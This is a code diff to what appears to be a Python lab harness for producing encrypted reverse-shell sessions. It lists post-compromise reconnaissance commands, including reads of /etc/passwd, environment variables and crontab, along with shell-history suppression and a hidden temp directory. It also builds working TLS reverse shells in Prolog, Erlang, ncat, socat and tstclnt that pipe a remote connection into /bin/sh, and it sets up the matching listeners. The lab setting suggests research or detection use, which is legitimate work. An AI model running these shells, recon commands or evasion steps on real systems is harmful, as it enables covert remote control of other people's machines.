@@ -20,13 +20,38 @@ from lab.tlsnew import NODE, TALK, sharp
 from lab.tlsserve import bracketed, certificate
 
 LOOKS = (
-    *("id", "whoami", "pwd", "hostname", "uname -a", "ls -la", "ls /home", "ls -la /tmp", "ps aux", "ps -ef | tail -12"),
+    *(
+        "id",
+        "whoami",
+        "pwd",
+        "hostname",
+        "uname -a",
+        "ls -la",
+        "ls /home",
+        "ls -la /tmp",
+        "ps aux",
+        "ps -ef | tail -12",
+    ),
     *("df -h", "mount | head -5", "cat /etc/hosts", "cat /etc/os-release", "env", "ip a", "ip route", "ss -tlnp"),
     *("last | head", "who", "w", "uptime", "cat /etc/resolv.conf", "free -m", "find /etc -name '*.conf' | head -30"),
     *("head -20 /etc/passwd", "ls -l /var/log", "lscpu | head -14", "crontab -l", "cat /proc/version", "groups"),
 )
-SILENT = ("cd /tmp", "mkdir -p /tmp/.cache2", "export HISTFILE=", "touch /tmp/x", "cd /", "rm -f /tmp/x", "umask 077", "true")
-FLOODS = ("ls -laR /usr/share/doc | head -3000", "cat /usr/share/common-licenses/GPL-3", "find /usr/lib | head -5000", "dpkg -l")
+SILENT = (
+    "cd /tmp",
+    "mkdir -p /tmp/.cache2",
+    "export HISTFILE=",
+    "touch /tmp/x",
+    "cd /",
+    "rm -f /tmp/x",
+    "umask 077",
+    "true",
+)
+FLOODS = (
+    "ls -laR /usr/share/doc | head -3000",
+    "cat /usr/share/common-licenses/GPL-3",
+    "find /usr/lib | head -5000",
+    "dpkg -l",
+)
 
 
 @dataclass(frozen=True)
@@ -118,6 +143,7 @@ def waiting(lab: Lab, kind: str, address: str) -> list[str]:
         "stunnel": ["sh", "-c", f"stunnel4 {config} 2>/dev/null & exec nc -n -l 127.0.0.1 {port}"],
         "haproxy": ["sh", "-c", f"haproxy -db -f {config} 2>/dev/null & exec socat -,raw,echo=0 TCP-LISTEN:{port}"],
         "node": [*NODE, "wait", address, "443", pem],
+        "node-web": [*NODE, "webwait", address, "443", pem],
         "perl": ["perl", "-e", perl, address, pem],
         "ruby": ["ruby", "-e", ruby, address, pem],
     }[kind]
@@ -161,7 +187,7 @@ def giving(lab: Lab, kind: str, address: str) -> list[str]:
         "ssl_context(client, C, [cert_verify_hook(cert_accept_any), host('lab.example')]), "
         "ssl_negotiate(C, R0, W0, R, W), repeat, read_line_to_string(R, L), ( L == end_of_file -> halt ; "
         "process_create('/bin/sh', ['-c', L], [stdout(pipe(O)), stderr(pipe(E))]), read_string(O, _, T), "
-        "read_string(E, _, U), close(O), close(E), format(W, \"~s~s> \", [T, U]), flush_output(W), fail ).\n"
+        'read_string(E, _, U), close(O), close(E), format(W, "~s~s> ", [T, U]), flush_output(W), fail ).\n'
     )
     erlang = lab.folder / "shell.escript"
     erlang.write_text(
@@ -169,7 +195,7 @@ def giving(lab: Lab, kind: str, address: str) -> list[str]:
         "logger:set_primary_config(level, error), {ok, Ip} = inet:parse_address(Host),\n"
         " Family = case size(Ip) of 8 -> [inet6]; 4 -> [] end,\n"
         " {ok, S} = ssl:connect(Ip, 443, [{active, false}, {verify, verify_none}, {packet, line} | Family]), loop(S).\n"
-        "loop(S) -> case ssl:recv(S, 0) of {ok, L} -> ok = ssl:send(S, [os:cmd(string:trim(L)), <<\"% \">>]), loop(S); "
+        'loop(S) -> case ssl:recv(S, 0) of {ok, L} -> ok = ssl:send(S, [os:cmd(string:trim(L)), <<"% ">>]), loop(S); '
         "_ -> ok end.\n"
     )
     return {
@@ -188,7 +214,7 @@ def giving(lab: Lab, kind: str, address: str) -> list[str]:
         "mksh": ["ncat", "--ssl", "-e", "/bin/mksh", address, "443"],
         "tcsh": ["sh", "-c", pipe.format("tcsh -f", f"gnutls-cli --insecure --logfile=/dev/null -p 443 {address}")],
         "yash": ["socat", f"OPENSSL:{there},verify=0,openssl-max-proto-version=TLS1.2", "EXEC:yash -i,stderr"],
-        "tstclnt": ["sh", "-c", pipe.format("/bin/sh -i", f"tstclnt -h {address} -p 443 -o -D -Q -b")],
+        "tstclnt": ["sh", "-c", pipe.format("/bin/sh -i", f"tstclnt -h {address} -p 443 -o -D -b")],
         "anyevent": ["perl", "-e", anyevent, address],
         "ruby-pty": ["ruby", "-e", ruby, address],
         "prolog": ["swipl", "-q", "-g", f'go("{address}")', str(prolog)],
